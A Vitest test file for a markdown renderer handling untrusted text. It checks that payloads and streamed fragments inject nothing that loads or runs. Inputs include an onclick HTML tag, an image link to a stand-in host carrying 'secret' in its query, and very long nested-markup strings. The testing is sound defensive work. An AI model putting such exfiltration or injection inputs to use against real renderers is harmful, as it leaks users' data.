// @vitest-environment jsdom
import { cleanup } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { violations } from './dom-rules';
import { PAYLOADS } from './payloads';
import { renderFinished, renderStreamed, settle } from './render-markdown';

afterEach(cleanup);

describe.each(Object.entries(PAYLOADS))('%s', (_, payload) => {
  it('puts nothing into the page that loads, runs or has an address', async () => {
    const { container } = renderFinished(payload);
    await settle();
    expect(violations(container)).toEqual([]);
  });

  it('is as harmless at every moment while it streams', () => {
    const found = new Set<string>();
    for (let end = 1; end <= payload.length; end++) {
      const { container, unmount } = renderStreamed(payload.slice(0, end), []);
      for (const violation of violations(container)) found.add(violation);
      unmount();
    }
    const cuts = Array.from(payload, (_, index) => index);
    const { container } = renderStreamed(payload, cuts);
    for (const violation of violations(container)) found.add(violation);
    expect([...found]).toEqual([]);
  });
});

describe('untrusted text', () => {
  it('shows HTML as the text it is', () => {
    const { container } = renderFinished('before <b onclick=x>bold</b>\n\n<div>block</div>');
    expect(container.textContent).toContain('<b onclick=x>');
    expect(container.textContent).toContain('<div>block</div>');
  });

  it('says where an image would have been loaded from', () => {
    const { container } = renderFinished('![chart](https://evil.test/?q=secret)');
    expect(container.textContent).toContain('Image not loaded: chart https://evil.test/?q=secret');
  });

  it('shows the source of a formula that cannot be typeset, and no message about it', async () => {
    const { container } = renderFinished('$$\n\\frac{1}{<b>\n$$');
    await settle();
    expect(container.querySelector('.katex, .katex-error')).toBeNull();
    expect(container.querySelector('.math')?.textContent).toBe('\\frac{1}{<b>');
  });

  it('shows hundreds of thousands of nested quotes, lists and brackets within its budget', () => {
    const hostile = [
      '>',
      '- ',
      '[',
      '![',
      '*a **b ',
      '_',
      '`',
      '<',
      '|a',
      '\\(',
      '$$',
      '&amp;',
      '(((',
      '~~a',
    ];
    for (const pattern of hostile) {
      const started = performance.now();
      const { unmount } = renderFinished(pattern.repeat(20_000 / pattern.length));
      unmount();
      expect({ pattern, seconds: Math.floor((performance.now() - started) / 5_000) }).toEqual({
        pattern,
        seconds: 0,
      });
    }
  });
});
